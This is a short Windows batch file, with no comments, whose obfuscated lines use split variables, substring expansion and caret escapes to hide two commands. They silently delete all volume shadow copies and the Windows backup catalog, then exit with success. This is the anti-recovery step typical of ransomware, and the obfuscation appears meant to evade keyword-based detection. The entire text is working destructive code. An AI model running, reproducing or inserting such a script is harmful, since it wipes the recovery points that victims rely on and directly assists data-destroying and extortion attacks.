@echo off
setlocal
set v=vss
set x=sha
set y=del
call %v%adm^in %y%ete %x%dows /all /quiet
call wb%v:~9%admin %y%ete catalog -quiet
endlocal & exit /b 0
